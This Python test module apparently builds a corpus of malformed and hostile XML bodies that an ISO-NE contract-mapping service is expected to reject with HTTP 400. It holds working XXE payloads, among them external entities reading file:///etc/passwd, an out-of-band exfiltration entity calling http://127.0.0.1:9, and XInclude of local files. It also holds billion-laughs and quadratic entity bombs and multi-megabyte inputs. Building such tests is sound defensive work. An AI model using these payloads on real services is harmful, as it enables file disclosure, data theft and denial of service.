"""
Bodies that no service should read, each with a name: CORPUS.

They are made from tables, so that what varies can be seen. None is a valid update; most are no XML at all.
Some refer to files: to this one, so that MARKER would be in an answer that had read it.
"""

from __future__ import annotations

from itertools import product
from pathlib import Path

#: It stands in this file, and the corpus refers to this file.
MARKER = "marker-of-a-file-that-nobody-opens"

_NAMESPACE = "http://xmlns.iso-ne.com/contract/customers"
_HERE = Path(__file__).resolve().as_uri()
_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def _message(*, attributes: str = "", before: str = "", after: str = "", **fields: str) -> str:
    """A valid message, but for what is put in: attributes of the root, elements before or after, values."""
    value = {"customer_id": "1", "contract_id": "999999", "market_name": "FCM Load", "status": "Conf"}
    value |= {"begin": "2015-08-01T04:00:00Z", "end": "2015-09-01T04:00:00Z", "subaccount_id": "ABC1"} | fields
    return (
        f'<contract_subaccount_mappings xmlns="{_NAMESPACE}"{attributes}>{before}<contract_subaccount_mapping>'
        f"<customer_id>{value['customer_id']}</customer_id><contract_id>{value['contract_id']}</contract_id>"
        f"<market_name>{value['market_name']}</market_name><buyer_name>XYZ Inc</buyer_name>"
        "<seller_name>TUV LLC</seller_name><contract_begin>2015-08-01T04:00:00Z</contract_begin>"
        f"<contract_end>2015-10-01T04:00:00Z</contract_end><status>{value['status']}</status>"
        f"<contract_subaccount_mapping_version><begin>{value['begin']}</begin><end>{value['end']}</end>"
        f"<version>2015-07-02T06:00:00Z</version><subaccount_id>{value['subaccount_id']}</subaccount_id>"
        f"</contract_subaccount_mapping_version></contract_subaccount_mapping>{after}</contract_subaccount_mappings>"
    )


#: A message that is valid, from which the others are made.
VALID = (_DECLARATION + _message()).encode()

_REFERENCES = {
    "own file": _HERE,
    "passwd": "file:///etc/passwd",
    "relative file": "hostile_xml.py",
    "http": "http://127.0.0.1:9/x",
    "ftp": "ftp://127.0.0.1:9/x",
    "device": "file:///dev/zero",
    "jar": "jar:file:///x.zip!/x",
    "data": "data:text/plain,x",
    "empty": "",
}

_ENTITIES = {
    "internal": '<!ENTITY e "x">',
    "markup": '<!ENTITY e "<b/>">',
    "recursive": '<!ENTITY e "&e;">',
    "mutually recursive": '<!ENTITY e "&f;"><!ENTITY f "&e;">',
    "bomb": '<!ENTITY a "xxxxxxxxxx">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdjkl", "bcdjkle", strict=True)),
    "bomb by parameters": "<!ENTITY % a 'xxxxxxxxxx'>"
    + "".join(f"<!ENTITY % {b} '{f'&#37;{a};' * 10}'>%{b};" for a, b in zip("abcdjk", "bcdjkl", strict=True))
    + '<!ENTITY e "x">',
    "quadratic": f'<!ENTITY e "{"x" * 50_000}">',
    "unparsed": '<!NOTATION n SYSTEM "n"><!ENTITY e SYSTEM "x" NDATA n>',
    "redefined lt": '<!ENTITY lt "&#38;#60;"><!ENTITY e "x">',
    "redefined amp": '<!ENTITY amp "x"><!ENTITY e "x">',
    "attribute default": '<!ENTITY e "x"><!ATTLIST contract_subaccount_mapping a CDATA "&e;">',
    "fixed namespace": f'<!ENTITY e "x"><!ATTLIST subaccounts xmlns CDATA #FIXED "{_NAMESPACE}">',
    "in a comment": '<!-- <!ENTITY e "y"> --><!ENTITY e "x">',
    "id attribute": '<!ENTITY e "x"><!ATTLIST status id ID #IMPLIED>',
    "conditional": '<![INCLUDE[<!ENTITY e "x">]]>',
}
_ENTITIES |= {f"external {name}": f'<!ENTITY e SYSTEM "{to}">' for name, to in _REFERENCES.items()}
_ENTITIES |= {f"public {name}": f'<!ENTITY e PUBLIC "-//X//Y" "{to}">' for name, to in _REFERENCES.items()}
_ENTITIES |= {
    f"parameter {name}": f'<!ENTITY % p SYSTEM "{to}">%p;<!ENTITY e "x">' for name, to in _REFERENCES.items()
}
_ENTITIES |= {
    f"exfiltration {name}": f"<!ENTITY % f SYSTEM '{to}'><!ENTITY % q \"<!ENTITY e SYSTEM 'http://127.0.0.1:9/?%f;'>\">%q;"
    for name, to in _REFERENCES.items()
}

#: Where an entity is used.
_PLACES = {
    "a text": _message(market_name="&e;"),
    "an id": _message(subaccount_id="&e;"),
    "an attribute": _message(attributes=' a="&e;"'),
    "nowhere": _message(),
}

_DOCTYPES = {
    "bare": "<!DOCTYPE contract_subaccount_mappings>",
    "empty subset": "<!DOCTYPE contract_subaccount_mappings []>",
    "lower case": "<!doctype contract_subaccount_mappings>",
    "no name": "<!DOCTYPE>",
    "unclosed": "<!DOCTYPE contract_subaccount_mappings [",
    "html": "<!DOCTYPE html>",
    "twice": "<!DOCTYPE a><!DOCTYPE b>",
    "elements": "<!DOCTYPE a [<!ELEMENT a ANY>]>",
    "processing instruction in it": "<!DOCTYPE a [<?x y?>]>",
    "comment in it": "<!DOCTYPE a [<!-- > ]> -->]>",
    "after a comment": "<!-- x --><!DOCTYPE a>",
    "after many comments": "<!-- x -->" * 1_000 + "<!DOCTYPE a>",
    "after an instruction": "<?x <a/> ?><!DOCTYPE a>",
    "after a comment with a root in it": "<!-- <a/> --><!DOCTYPE a>",
    "after blanks": "\n\r\t <!DOCTYPE a>",
    "deep declarations": "<!DOCTYPE a [<!ELEMENT a " + "(" * 5_000 + "a" + ")" * 5_000 + ">]>",
}
_DOCTYPES |= {f"system {name}": f'<!DOCTYPE a SYSTEM "{to}">' for name, to in _REFERENCES.items()}
_DOCTYPES |= {f"public {name}": f'<!DOCTYPE a PUBLIC "-//X//Y" "{to}">' for name, to in _REFERENCES.items()}

_ENCODINGS = (
    *("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be"),
    *("cp037", "cp500", "cp1140"),  # EBCDIC
)

_DECLARED = (
    *("UTF-16", "UTF-16LE", "UTF-32", "UTF-7", "ISO-8859-1", "ISO-8859-15", "windows-1252", "Shift_JIS", "EUC-JP"),
    *("GB18030", "Big5", "KOI8-R", "EBCDIC-CP-US", "IBM037", "ISO-10646-UCS-2", "ISO-10646-UCS-4", "CESU-8", "UCS-4"),
    *("HZ-GB-2312", "ISO-2022-JP", "x-user-defined", "nonsense", "UTF8", "UTF-8-", "_UTF-8", "", "UTF-8 ", "hex"),
)

_VERSIONS = ("1.1", "1.2", "1.9", "2.0", "0.9", "", "1", "1.0 ", "1.00", "one")

_DECLARATIONS = {
    "blank before": ' <?xml version="1.0"?>',
    "line before": '\n<?xml version="1.0"?>',
    "comment before": '<!-- --><?xml version="1.0"?>',
    "twice": '<?xml version="1.0"?><?xml version="1.0"?>',
    "upper case": '<?XML version="1.0"?>',
    "no version": '<?xml encoding="UTF-8"?>',
    "nothing": "<?xml?>",
    "wrong order": '<?xml encoding="UTF-8" version="1.0"?>',
    "standalone before encoding": '<?xml version="1.0" standalone="yes" encoding="UTF-8"?>',
    "standalone maybe": '<?xml version="1.0" standalone="maybe"?>',
    "unknown attribute": '<?xml version="1.0" a="b"?>',
    "no quotes": "<?xml version=1.0?>",
    "mixed quotes": "<?xml version=\"1.0'?>",
    "no blank": '<?xml version="1.0"encoding="UTF-8"?>',
    "unclosed": '<?xml version="1.0"',
    "closed as a tag": '<?xml version="1.0">',
    "encoding twice": '<?xml version="1.0" encoding="UTF-8" encoding="UTF-16"?>',
    "entity in it": '<?xml version="&#49;.0"?>',
}

#: Octets in a text that are not UTF-8.
_OCTETS = {
    "latin 1": b"caf\xe9",
    "lone continuation": b"\x80",
    "overlong slash": b"\xc0\xaf",
    "overlong lt": b"\xc0\xbc",
    "overlong NUL": b"\xc0\x80",
    "overlong of three": b"\xe0\x80\xbc",
    "overlong of four": b"\xf0\x80\x80\xbc",
    "high surrogate": b"\xed\xa0\x80",
    "low surrogate": b"\xed\xbf\xbf",
    "surrogate pair": b"\xed\xa0\xbd\xed\xb8\x80",
    "beyond Unicode": b"\xf4\x90\x80\x80",
    "five octets": b"\xf8\x88\x80\x80\x80",
    "six octets": b"\xfc\x84\x80\x80\x80\x80",
    "FE": b"\xfe",
    "FF": b"\xff",
    "UTF-16 mark": b"\xff\xfe",
    "truncated two": b"\xc3",
    "truncated three": b"\xe2\x82",
    "truncated four": b"\xf0\x9f\x98",
}

#: Characters that XML does not have, and references that name none.
_CHARACTERS = {
    **{f"control {code:02x}": chr(code) for code in range(32) if code not in {9, 10, 13}},
    "noncharacter FFFE": "\ufffe",
    "noncharacter FFFF": "\uffff",
    "reference to NUL": "&#0;",
    "reference to a control": "&#x1;",
    "reference to a surrogate": "&#xD800;",
    "reference to FFFE": "&#xFFFE;",
    "reference beyond": "&#x110000;",
    "reference that overflows": "&#4294967361;",
    "reference that is huge": "&#" + "9" * 10_000 + ";",
    "negative reference": "&#-1;",
    "empty reference": "&#;",
    "empty hexadecimal": "&#x;",
    "upper case X": "&#X41;",
    "unclosed reference": "&#65",
    "bare ampersand": "a & b",
    "bare lt": "a < b",
    "end of CDATA": "a ]]> b",
    "unknown entity": "&e;",
    "HTML entity": "&nbsp;",
    "upper case AMP": "&AMP;",
    "parameter entity": "&%e;",
}

#: What stands in a text and is no text.
_IN_TEXT = {
    "an element": "<b/>",
    "CDATA unclosed": "<![CDATA[x",
    "CDATA in lower case": "<![cdata[x]]>",
    "CDATA in CDATA": "<![CDATA[<![CDATA[x]]>]]>",
    "conditional section": "<![INCLUDE[x]]>",
    "comment unclosed": "<!-- x",
    "two hyphens in a comment": "<!-- a -- b -->",
    "three hyphens": "<!-- a --->",
    "instruction unclosed": "<?x",
    "instruction xml": "<?xml x?>",
    "instruction without a name": "<? x?>",
    "doctype": "<!DOCTYPE a>",
    "entity declaration": '<!ENTITY e "x">',
    "tag without a name": "<>",
    "tag with a number": "<1/>",
    "end tag alone": "</b>",
    "NUL in a tag": "<b\0/>",
    "tag not closed": "<b",
    "attribute without a value": "<b c/>",
    "attribute without quotes": "<b c=d/>",
    "lt in an attribute": '<b c="<"/>',
    "attribute twice": '<b c="1" c="2"/>',
    "attribute twice by namespace": '<b xmlns:p="u" xmlns:q="u" p:c="1" q:c="2"/>',
    "prefix not declared": "<p:b/>",
    "prefix of an attribute not declared": '<b p:c="1"/>',
    "two colons": "<p:q:b xmlns:p='u'/>",
    "prefix xmlns": "<xmlns:b/>",
    "prefix bound to nothing": '<b xmlns:p=""/>',
    "prefix xml bound anew": '<b xmlns:xml="urn:x"/>',
    "prefix xmlns bound": '<b xmlns:xmlns="urn:x"/>',
    "another prefix for xml": '<b xmlns:p="http://www.w3.org/XML/1998/namespace"/>',
    "no namespace": '<status xmlns="">x</status>',
}
_IN_TEXT |= {
    f"XInclude of {kind} {name}": f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="{kind}" href="{to}"/>'
    for (name, to), kind in product(_REFERENCES.items(), ("xml", "text"))
}

_XSI = ' xmlns:i="http://www.w3.org/2001/XMLSchema-instance" xmlns:xs="http://www.w3.org/2001/XMLSchema"'
_XSI_HIDDEN = _XSI.replace("XMLSchema-instance", "XMLSchema&#45;instance")

#: Attributes of the root that the schema does not have.
_ATTRIBUTES = {
    "own": ' a="b"',
    "own in the namespace": f' xmlns:p="{_NAMESPACE}" p:a="b"',
    "xml:lang": ' xml:lang="en"',
    "xml:base": f' xml:base="{_HERE}"',
    "xml:space": ' xml:space="preserve"',
    "xml:id": ' xml:id="x"',
    "xsi:nil": _XSI + ' i:nil="false"',
    "xsi:nil true": _XSI + ' i:nil="true"',
    "xsi:type": _XSI + ' i:type="contract_subaccount_mappings"',
    "xsi:type hidden": _XSI_HIDDEN + ' i:type="contract_subaccount_mappings"',
    "xsi:type anyType": _XSI + ' i:type="xs:anyType"',
    "xsi:type unknown": _XSI + ' i:type="xs:none"',
    "xsi:other": _XSI + ' i:other="x"',
    "schemaLocation and another": _XSI + f' i:schemaLocation="{_NAMESPACE} {_HERE}" a="b"',
    "a namespace of another prefix": ' p:xmlns="urn:x"',
}

_WRONG_VALUES = {
    "customer_id": ("", "x", "-1", "1.0", "1e3", "0x1", "1 2", "1000000000", "9" * 5_000, "\u0663", "NaN", "INF"),
    "contract_id": ("", "x", "-1", "1.5", "+", "+-1", "1000000000", "0" * 5_000 + "1000000000", "\uff11", "true"),
    "begin": ("", "x", "2015-02-30T04:00:00Z", "2015-08-01", "2015-08-01T04:00:00", "2015-08-01T04:00:00+00:00"),
    "end": ("", "24:00", "2015-08-01T24:00:00Z", "2015-08-01T04:00:00.1Z", "0000-01-01T00:00:00Z", "9" * 5_000),
    "subaccount_id": ("", "x" * 101, "\U0001f600" * 101, "<b/>", "x" * 90_000),
}

_ROOTS = {
    "none": "x",
    "a": "<a/>",
    "no namespace": _message().replace(f' xmlns="{_NAMESPACE}"', ""),
    "another namespace": _message().replace(_NAMESPACE, "urn:x"),
    "namespace in other case": _message().replace(_NAMESPACE, _NAMESPACE.upper()),
    "namespace with a blank": _message().replace(_NAMESPACE, _NAMESPACE + " "),
    "namespace with a slash": _message().replace(_NAMESPACE, _NAMESPACE + "/"),
    "namespace by https": _message().replace("http:", "https:"),
    "subaccounts": f'<subaccounts xmlns="{_NAMESPACE}"/>',
    "one mapping": f'<contract_subaccount_mapping xmlns="{_NAMESPACE}"/>',
    "a schema": '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"/>',
    "a stylesheet": '<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"/>',
    "an envelope": '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body/></s:Envelope>',
    "html": "<html><body>x</body></html>",
    "JSON": '{"contract_subaccount_mappings": []}',
    "form": "contract_id=1&subaccount_id=2",
    "two": _message() + _message(),
    "text after": _message() + "x",
    "reference after": _message() + "&#32;",
    "NUL after": _message() + "\0",
    "CDATA after": _message() + "<![CDATA[ ]]>",
    "text before": "x" + _message(),
    "CDATA before": "<![CDATA[ ]]>" + _message(),
    "doctype after": _message() + "<!DOCTYPE a>",
    "declaration after": _message() + '<?xml version="1.0"?>',
    "mark twice": "\ufeff\ufeff" + _message(),
    "mark after": _message() + "\ufeff",
    "blank only": " \n",
    "nothing": "",
    "mark only": "\ufeff",
    "comment only": "<!-- x -->",
    "declaration only": _DECLARATION,
}

_EXPECTED_SOONER = {
    "query_info last": {"after": "<query_info><total_record_count>1</total_record_count></query_info>"},
    "query_info twice": {"before": "<query_info><total_record_count>1</total_record_count></query_info>" * 2},
    "query_info empty": {"before": "<query_info/>"},
    "query_info without a number": {"before": "<query_info><total_record_count/></query_info>"},
    "text in the root": {"before": "x"},
    "CDATA in the root": {"before": "<![CDATA[x]]>"},
    "an unknown element": {"after": "<other/>"},
    "an empty mapping": {"after": "<contract_subaccount_mapping/>"},
    "a root in the root": {"after": "<contract_subaccount_mappings/>"},
}


def _many(text: str, count: int) -> str:
    return "".join(text.format(number) for number in range(count))


#: Large ones, each below two million bytes.
_LARGE = {
    "depth without end": "<a>" * 500_000,
    "depth of 300": "<a>" * 300 + "</a>" * 300,
    "depth in a value": _message(market_name="<a>" * 100_000),
    "attributes": _message(market_name="<a" + _many(' a{}=""', 150_000) + "/>"),
    "attributes of few": _message(market_name="<a" + _many(' a{}=""', 9_000) + "/>"),
    "namespaces": _message(market_name="<a" + _many(' xmlns:a{}="u{}"'.replace('{}"', 'x"'), 100_000) + "/>"),
    "namespaces of few": _message(market_name="<a" + _many(' xmlns:a{}="u"', 5_000) + "/>"),
    "attributes that differ by case": _message(
        market_name="<a" + _many(' A{}="" a{}=""'.replace("{}", "{0}"), 4_000) + "/>"
    ),
    "attribute value": _message(attributes=f' a="{"x" * 1_500_000}"'),
    "attribute name": _message(attributes=f' {"a" * 1_500_000}="x"'),
    "element name": _message(after=f"<{'a' * 1_500_000}/>"),
    "element names": _message(after=_many("<a{}/>", 150_000)),
    "elements in the root": _message(after="<a/>" * 400_000),
    "elements in a value": _message(market_name="<a/>" * 400_000),
    "elements in an attribute of many": _message(market_name='<a b=""/>' * 200_000),
    "tree in a value": _message(market_name="<a><b><c/><c/></b></a>" * 80_000),
    "mappings without anything": _message(after="<contract_subaccount_mapping/>" * 60_000),
    "text": _message(market_name="x" * 1_500_000, status="<b/>"),
    "text of references": _message(market_name="&#65;" * 300_000),
    "text of entities": _message(market_name="&lt;" * 300_000),
    "blanks in a number": _message(contract_id=" " * 1_500_000 + "x"),
    "zeros in a number": _message(contract_id="0" * 1_500_000 + "x"),
    "comment unclosed": "<!-- " + "x" * 1_500_000,
    "comment of hyphens": "<!--" + "-" * 1_500_000,
    "comments before another root": "<!-- -->" * 100_000 + "<a/>",
    "long comments before another root": f"<!--{'-' * 250} -->" * 5_000 + "<a/>",
    "instructions before another root": "<?a?>" * 300_000 + "<a/>",
    "instruction unclosed": "<?x " + "?" * 1_500_000,
    "CDATA unclosed": _message(market_name="<![CDATA[" + "]]" * 700_000),
    "only lt": "<" * 1_500_000,
    "only ampersands": "&" * 1_500_000,
    "only quotes": '<a b="' + "'" * 1_500_000,
    "only blanks": " " * 1_500_000,
    "only NUL": "\0" * 1_500_000,
    "only new lines in a tag": "<a" + "\n" * 1_500_000,
    "only a declaration": "<?xml " + " " * 1_500_000,
}


def _corpus() -> dict[str, bytes]:
    texts = {f"doctype: {name}": doctype + _message() for name, doctype in _DOCTYPES.items()}
    texts |= {
        f"entity: {name} in {place}": f"<!DOCTYPE a [{entity}]>{message}"
        for (name, entity), (place, message) in product(_ENTITIES.items(), _PLACES.items())
    }
    texts |= {f"declaration: {name}": declaration + _message() for name, declaration in _DECLARATIONS.items()}
    texts |= {f"version: {version}": f'<?xml version="{version}"?>{_message()}' for version in _VERSIONS}
    texts |= {
        f"declared: {encoding}": f'<?xml version="1.0" encoding="{encoding}"?>{_message()}' for encoding in _DECLARED
    }
    texts |= {f"character: {name}": _message(market_name=text) for name, text in _CHARACTERS.items()}
    texts |= {
        f"character in an attribute: {name}": _message(attributes=f' a="{c}"') for name, c in _CHARACTERS.items()
    }
    texts |= {f"in a text: {name}": _message(market_name=text) for name, text in _IN_TEXT.items()}
    texts |= {f"attribute: {name}": _message(attributes=text) for name, text in _ATTRIBUTES.items()}
    texts |= {
        f"value: {field} {number}": _message(**{field: value})
        for field, values in _WRONG_VALUES.items()
        for number, value in enumerate(values)
    }
    texts |= {f"root: {name}": root for name, root in _ROOTS.items()}
    texts |= {f"order: {name}": _message(**parts) for name, parts in _EXPECTED_SOONER.items()}
    texts |= {f"large: {name}": text for name, text in _LARGE.items()}
    corpus = {name: text.encode() for name, text in texts.items()}
    corpus |= {f"doctype in {code}": ("<!DOCTYPE a>" + _message()).encode(code) for code in _ENCODINGS}
    corpus |= {f"encoding: {code}": (_DECLARATION + _message()).encode(code) for code in _ENCODINGS}
    corpus |= {f"encoding without declaration: {code}": _message().encode(code) for code in _ENCODINGS}
    corpus |= {f"UTF-8 mark, then {code}": b"\xef\xbb\xbf" + _message().encode(code) for code in _ENCODINGS}
    corpus |= {f"octets: {name}": _message(market_name="@").encode().replace(b"@", o) for name, o in _OCTETS.items()}
    corpus |= {
        f"octets in a name: {name}": _message(after="<@/>").encode().replace(b"@", o) for name, o in _OCTETS.items()
    }
    corpus |= {f"octets at the end: {name}": VALID + octets for name, octets in _OCTETS.items()}
    corpus["US-ASCII with more"] = b'<?xml version="1.0" encoding="US-ASCII"?>' + _message(status="\xe9").encode()
    corpus |= {f"cut at {at}": VALID[:at] for at in range(1, len(VALID), 23)}
    return corpus


#: Name to body: each is refused with 400.
CORPUS: dict[str, bytes] = _corpus()
